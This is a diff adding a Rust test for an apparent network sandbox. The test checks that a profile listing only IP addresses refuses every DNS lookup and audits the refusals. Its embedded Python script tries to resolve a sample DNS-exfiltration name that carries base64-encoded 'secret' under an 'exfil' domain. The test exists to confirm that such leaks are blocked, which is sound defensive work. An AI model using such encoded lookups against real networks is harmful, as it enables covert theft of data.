@@ -311,3 +311,59 @@ print("sent")
     assert!(!text.contains('\x1b') && !text.contains('\u{9b}') && !text.contains('\x07'), "{text:?}");
     assert!(plain.seen().is_empty() && upstream.web.seen().is_empty(), "a refused connection reached the upstream");
 }
+
+#[test]
+fn a_profile_that_names_no_hosts_resolves_no_names() {
+    if !privileged() {
+        return;
+    }
+    let upstream = Upstream::new();
+    let daemon = upstream.daemon(None);
+    let profile = format!(
+        "name = \"by-address\"\n[[rule]]\nname = \"test-net\"\naction = \"allow\"\nips = [\"{}/24\"]\nports = [443]\n",
+        upstream.net.v4(0)
+    );
+    let sandbox = upstream.sandbox(&daemon, "by-address", &profile);
+    let script = r#"
+import socket
+for name in ("web.test", "c2vjcmV0.exfil.test"):
+    try:
+        socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)
+        print(name, "resolved")
+    except socket.gaierror:
+        print(name, "refused")
+"#;
+    let output = sandbox.python(script);
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert_eq!(text.lines().collect::<Vec<_>>(), ["web.test refused", "c2vjcmV0.exfil.test refused"], "{output:?}");
+    assert!(upstream.dns.questions().is_empty(), "queries reached the name server: {:?}", upstream.dns.questions());
+    let decisions = daemon.wait_decisions("refusals recorded", |d| {
+        d.iter().filter(|d| d.kind == sluice::audit::Kind::Dns && d.rule == "no-hosts-named").count() >= 2
+    });
+    let record = decisions.iter().find(|d| d.rule == "no-hosts-named").unwrap();
+    assert!(record.reason.contains("names no hosts"), "{}", record.reason);
+    // Addresses still work: the profile is about them.
+    assert_eq!(send_raw_to(&sandbox, upstream.net.v4(2), "/x"), 200);
+}
+
+/// One request to `ip` with the TLS name web.test but no name resolved.
+fn send_raw_to(sandbox: &Sandbox, ip: std::net::IpAddr, target: &str) -> u16 {
+    let script = format!(
+        r#"
+import socket, ssl
+ctx = ssl.create_default_context()
+s = ctx.wrap_socket(socket.create_connection(("{ip}", 443), timeout=15), server_hostname="web.test")
+s.sendall(b"GET {target} HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n")
+data = b""
+while True:
+    chunk = s.recv(65536)
+    if not chunk:
+        break
+    data += chunk
+print(data.split(b"\r\n", 1)[0].split()[1].decode())
+"#
+    );
+    let output = sandbox.python(&script);
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    String::from_utf8_lossy(&output.stdout).trim().parse().unwrap()
+}
